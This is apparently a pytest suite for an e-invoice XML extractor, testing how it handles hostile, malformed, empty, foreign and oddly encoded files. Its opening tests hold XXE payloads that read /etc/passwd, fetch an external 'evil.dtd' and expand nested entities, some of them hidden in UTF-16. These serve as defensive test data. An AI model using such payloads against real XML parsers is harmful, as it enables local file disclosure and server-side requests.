"""XML from strangers is only ever data: hostile, broken and foreign files each get their own answer."""

import time

import pytest

from extractors.media import XML, media_type_of
from extractors.unpack.within_pdf import embedded_xml
from formats.einvoice import extract_einvoice, is_einvoice
from formats.einvoice.prolog import in_utf8
from schemas.errors import DamagedFile, EmptyFile, UnreadableFile, UnsafeXml, UnsupportedFile
from tests.extractors.einvoice_factories import a_cii, a_cii_line, a_pdf, a_ubl, a_ubl_line, cac, cbc, ram

INVOICE = a_ubl(body=cbc("ID", "INV-1"))


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE Invoice SYSTEM "http://192.0.2.1/evil.dtd">',
        b'<!DOCTYPE Invoice [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b"<!DOCTYPE Invoice>",
    ],
)
def test_a_document_type_is_refused_before_anything_is_expanded(declaration):
    hostile = INVOICE.replace(b"\n<Invoice", declaration + b"\n<Invoice").replace(b"INV-1", b"&x;")

    with pytest.raises(UnsafeXml):
        extract_einvoice(hostile)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_document_type_cannot_hide_in_another_encoding(encoding):
    text = '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]><Invoice>&x;</Invoice>'

    with pytest.raises(UnsafeXml):
        extract_einvoice(text.encode(encoding))


@pytest.mark.parametrize(
    "data",
    [
        INVOICE[:-4],
        INVOICE.replace(b"</cbc:ID>", b""),
        b"\x00\x01 <Invoice",
        b"plain text",
        b"<a" * 10,
        b"<x>" * 5000 + b"</x>" * 5000,
    ],
)
def test_xml_that_is_not_well_formed_is_damaged(data):
    with pytest.raises(DamagedFile):
        extract_einvoice(data)


NAMED = a_ubl(body=cbc("ID", "INV-1") + cbc("Note", "Lüfterräder für Größe 4"))
BARE = NAMED.partition(b"\n")[2]


@pytest.mark.parametrize(
    "data",
    [
        b"\n" + NAMED,
        b"\r\n \t" + NAMED,
        b"\xef\xbb\xbf" + NAMED,
        b"\xef\xbb\xbf\r\n" + NAMED,
        b"\n\xef\xbb\xbf" + NAMED,
        b"<!-- made by hand -->\n" + NAMED,
        NAMED + b"\n\x00\x1a",
        NAMED.decode().encode("cp1252"),
        BARE.decode().encode("cp1252"),
        NAMED.replace(b"UTF-8", b"ISO-8859-1"),
        NAMED.replace(b"UTF-8", b"utf-16"),
        NAMED.replace(b"UTF-8", b"no-such-encoding"),
        NAMED.replace(b"UTF-8", b"ISO-8859-1").decode().encode("latin-1"),
        NAMED.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"),
        NAMED.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16-le"),
        NAMED.decode().encode("utf-16-be"),
    ],
)
def test_blank_lines_marks_and_wrong_encodings_before_a_sound_message_do_not_matter(data):
    assert is_einvoice(data)
    assert media_type_of(data) == XML
    assert extract_einvoice(data)[0].header.document_number.value == "INV-1"
    assert "Lüfterräder für Größe 4" in in_utf8(data).decode()


def test_a_prolog_made_to_be_read_in_many_ways_takes_no_longer_than_another():
    hostile = b"<!-- -->" * 900 + b"<!-- -- > " * 100 + b"<?" * 200
    started = time.process_time()

    assert not is_einvoice(hostile)
    with pytest.raises(DamagedFile):
        extract_einvoice(hostile)
    assert time.process_time() - started < 1


@pytest.mark.parametrize("data", [b"", b" \n", b"\x00\x00"])
def test_a_file_of_nothing_is_empty(data):
    with pytest.raises(EmptyFile):
        extract_einvoice(data)


@pytest.mark.parametrize(
    "data", [b"<html/>", b"<Invoice/>", b'<Invoice xmlns="urn:another:standard"/>', b"<StandardBusinessDocument/>"]
)
def test_xml_of_another_trade_is_unsupported(data):
    with pytest.raises(UnsupportedFile):
        extract_einvoice(data)


@pytest.mark.parametrize("cut", range(0, len(INVOICE), 37))
def test_a_file_cut_off_anywhere_is_told_as_unreadable(cut):
    with pytest.raises(UnreadableFile):
        extract_einvoice(INVOICE[:cut])


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (INVOICE, True),
        (b"\xef\xbb\xbf" + INVOICE, True),
        (INVOICE.decode().replace("UTF-8", "UTF-16").encode("utf-16"), True),
        (b"<!-- a note -->" + INVOICE.split(b"\n", 1)[1], True),
        (a_cii(), True),
        (b"<!DOCTYPE Invoice><Invoice>", True),
        (b"<html><body>Invoice</body></html>", False),
        (b"%PDF-1.7", False),
        (b"", False),
    ],
)
def test_an_einvoice_is_known_by_its_first_element(data, expected):
    assert is_einvoice(data) is expected


HUGE = ["1E999999999", "9" * 400, "1E+30", "-1E999999999", "1E-999999999", "NaN", "sNaN", "Infinity", "1_000", "٣"]


@pytest.mark.parametrize("number", HUGE)
def test_a_number_no_trade_knows_is_no_number(number):
    allowance = cac("AllowanceCharge", cbc("ChargeIndicator", "false") + cbc("Amount", number))
    sums = cac("LegalMonetaryTotal", cbc("PayableAmount", number) + cbc("AllowanceTotalAmount", number))
    lines = a_ubl_line(quantity=number, price=number, more=allowance) + a_ubl_line(price=number, more=allowance)

    (ubl,) = extract_einvoice(a_ubl(body=allowance + sums + lines))
    billed = ram("BilledQuantity", number)
    (cii,) = extract_einvoice(a_cii(lines=a_cii_line(quantity=billed, price=number) + a_cii_line(price=number)))

    assert not ubl.header.amount_due.is_found
    assert [line.quantity.value for line in (*ubl.lines, *cii.lines)] == [4, 4]
    assert not any(line.unit_price.is_found for line in (*ubl.lines, *cii.lines))


@pytest.mark.parametrize("root", ["OrderResponse", "DespatchAdvice", "CreditNote"])
def test_huge_numbers_overflow_no_other_message(root):
    item = cbc("Quantity", "1E999999999") + cac("Price", cbc("PriceAmount", "1E999999999"))
    lines = cac("OrderLine", cac("LineItem", item)) + cac("DespatchLine", cbc("DeliveredQuantity", "1E999999999"))

    assert extract_einvoice(a_ubl(root, body=lines))


@pytest.mark.parametrize(("quantity", "price"), [("999999999999999", "999999999999999"), ("1E-30", "1E-30"), (0, 0)])
def test_the_widest_numbers_taken_can_be_reckoned_with(quantity, price):
    allowance = cac("AllowanceCharge", cbc("ChargeIndicator", "false") + cbc("Amount", "999999999999999"))
    base = cac("Price", cbc("PriceAmount", price) + cbc("BaseQuantity", "1E-30"))
    line = a_ubl_line(quantity=quantity, price=price, more=allowance)

    assert extract_einvoice(a_ubl(body=line + line.replace(cac("Price", cbc("PriceAmount", price)), base)))


def test_every_message_in_an_envelope_is_read():
    two = b"".join(a_ubl(body=cbc("ID", number)).split(b"\n", 1)[1] for number in ("A", "B"))
    envelope = b'<StandardBusinessDocument xmlns="urn:sbdh"><Header/>' + two + b"</StandardBusinessDocument>"

    assert [found.header.document_number.value for found in extract_einvoice(envelope)] == ["A", "B"]


def test_a_utf16_invoice_is_read():
    data = INVOICE.decode().replace("UTF-8", "UTF-16").encode("utf-16")

    assert extract_einvoice(data)[0].header.document_number.value == "INV-1"


@pytest.mark.parametrize(
    "name", ["factur-x.xml", "ZUGFeRD-invoice.xml", "zugferd-invoice.xml", "xrechnung.xml", "x.dat"]
)
def test_the_xml_inside_a_pdf_is_found_by_name_or_content(name):
    pdf = a_pdf(("terms.txt", b"General terms"), (name, a_cii(number="R-9")))

    xml = embedded_xml(pdf)

    assert xml is not None
    assert extract_einvoice(xml)[0].header.document_number.value == "R-9"


def test_the_standard_name_wins_over_other_einvoices_attached():
    pdf = a_pdf(("old.xml", a_cii(number="OLD")), ("factur-x.xml", a_cii(number="NEW")))

    assert b"NEW" in (embedded_xml(pdf) or b"")


@pytest.mark.parametrize("data", [b"", b"%PDF-1.7 cut", b"no pdf", a_pdf(), a_pdf(("note.xml", b"<note/>"))])
def test_a_pdf_without_an_einvoice_has_none(data):
    assert embedded_xml(data) is None
